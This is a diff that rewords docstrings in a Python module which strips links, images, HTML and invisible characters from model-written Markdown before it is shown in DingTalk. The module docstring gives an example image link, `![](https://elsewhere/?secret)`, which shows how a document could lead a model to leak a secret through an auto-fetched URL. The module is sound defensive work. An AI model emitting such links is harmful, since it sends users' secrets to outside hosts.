@@ -1,7 +1,7 @@
-"""Text that documents had a hand in, as Markdown that DingTalk shows without fetching or linking anything.
+"""Makes Markdown safe to show in DingTalk, so that it fetches and links nothing. Documents may have shaped the text.
 
 A document can make a model write `![](https://elsewhere/?secret)`, which a client would fetch. DingTalk does not say
-which escapes it honours, so links and images are broken apart rather than escaped.
+which escapes it honours. So links and images are broken apart, not escaped.
 """
 
 from __future__ import annotations
@@ -24,7 +24,7 @@ _SENTENCE_END = re.compile(r"(?<=[。！？；.!?;\s])")
 
 
 def harmless(text: str) -> str:
-    """The same Markdown without links, images or HTML; addresses are shown as code, which nobody can click."""
+    """Returns the same Markdown without links, images or HTML. Addresses become code, which nobody can click."""
     text = text.replace("![", "! [").replace("](", "] (")
     text = _REFERENCE.sub(r"\1 :", _TAG.sub("＜", text))
     pieces = _CODE.split(text)
@@ -33,18 +33,21 @@ def harmless(text: str) -> str:
 
 
 def literal(text: str) -> str:
-    """A title or a name in one line, its Markdown marks replaced by their full-width look-alikes."""
+    """Returns a title or a name in one line. Its Markdown marks become full-width characters that look alike."""
     line = " ".join(text.split()).translate(_MARKS)
     return _ADDRESS.sub(r"`\g<0>`", line)
 
 
 def code_span(code: str) -> str:
-    """An error's code as code: it is shown and found by a search as it is written in logs."""
+    """Returns an error's code as Markdown code. People can search the logs for it as it is shown."""
     return f"`{_NO_CODE.sub('', code)}`"
 
 
 def quoted(question: str) -> str:
-    """The first words of a question as the quoted first line of what answers it; nothing where it has no words."""
+    """Returns the first words of a question as a quoted line before its answer.
+
+    Returns an empty text if it has no words.
+    """
     words = " ".join("".join(letter if _shown(letter) else " " for letter in question).split())
     if not words:
         return ""
@@ -53,12 +56,17 @@ def quoted(question: str) -> str:
 
 
 def _shown(letter: str) -> bool:
-    """Invisible characters can turn the order of what stands beside them; one joins the parts of an emoji."""
+    """Returns True if the character is shown.
+
+    Invisible ones can reverse the text beside them; one of them joins emoji parts.
+    """
     return letter.isprintable() or letter == "\u200d"
 
 
 def spaced(text: str) -> str:
-    """With the blank lines before lists and tables and the line ends that DingTalk wants to see line breaks."""
+    """Returns the text with the blank lines and line ends that DingTalk needs, before lists and tables and at line
+    breaks.
+    """
     lines: list[str] = []
     fenced = False
     for line in text.split("\n"):
@@ -74,8 +82,11 @@ def spaced(text: str) -> str:
 
 
 def split_markdown(text: str, limit: int) -> list[str]:
-    """Parts of at most `limit` characters, cut between paragraphs where that can be, else between lines or
-    sentences. Code that is cut is fenced in each part."""
+    """Returns parts of at most `limit` characters.
+
+    The cut is between paragraphs if possible, otherwise between lines or sentences. If code is cut, each part is
+    fenced.
+    """
     parts: list[str] = []
     for block in _blocks(text):
         for piece in [block] if len(block) <= limit else _cut(block, limit):
@@ -87,7 +98,7 @@ def split_markdown(text: str, limit: int) -> list[str]:
 
 
 def _blocks(text: str) -> list[str]:
-    """Paragraphs; fenced code is one block whatever blank lines it has."""
+    """Returns the paragraphs. Fenced code is one block, even if it has blank lines."""
     blocks: list[list[str]] = [[]]
     fenced = False
     for line in text.split("\n"):
